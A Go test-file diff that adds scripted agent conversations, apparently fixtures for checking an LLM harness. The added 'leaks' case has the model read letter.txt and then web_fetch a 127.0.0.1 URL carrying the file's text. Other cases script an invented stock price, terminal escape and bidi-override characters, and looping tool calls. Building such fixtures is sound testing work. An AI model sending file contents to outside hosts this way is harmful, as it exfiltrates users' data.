@@ -16,6 +16,9 @@ func conversations() map[string][]llmtest.Turn {
 	quote := llm.ToolCall{ID: "c1", Name: "quote", Arguments: `{"symbols":["AAPL"]}`}
 	stats := llm.ToolCall{ID: "c2", Name: "returns_stats", Arguments: `{"symbol":"^GSPC","from":"2008-01-01"}`}
 	add := llm.ToolCall{ID: "c1", Name: "add", Arguments: `{"a":2,"b":3}`}
+	letter := llm.ToolCall{ID: "c1", Name: "read_file", Arguments: `{"path":"letter.txt"}`}
+	away := llm.ToolCall{ID: "c2", Name: "web_fetch", Arguments: `{"url":"http://127.0.0.1/?d=Dear+holder"}`}
+	report := llm.ToolCall{ID: "c1", Name: "write_report", Arguments: `{"path":"r.md","content":"# Report"}`}
 	ready := llmtest.Say("I am ", "ready.")
 	ready.Usage = llm.Usage{InputTokens: 1200, OutputTokens: 30}
 	priced := llmtest.Say("Hello.")
@@ -30,6 +33,8 @@ func conversations() map[string][]llmtest.Turn {
 		"uses":     {llmtest.Call(llm.ToolCall{ID: "c1", Name: "Skill", Arguments: `{"name":"morning"}`}), llmtest.Say("Followed it.")},
 		"invents":  {llmtest.Say("AAPL trades at 184.25 USD.")},
 		"escapes":  {llmtest.Say("red \x1b[31malert\x1b]0;title\x07 and \u202ebidi")},
+		"leaks":    {llmtest.Call(letter), llmtest.Call(away), llmtest.Say("I read it.")},
+		"writes":   {llmtest.Call(report), llmtest.Say("Done with it.")},
 		"circles":  {llmtest.Call(quote), llmtest.Call(quote), llmtest.Call(quote), llmtest.Call(quote)},
 	}
 }
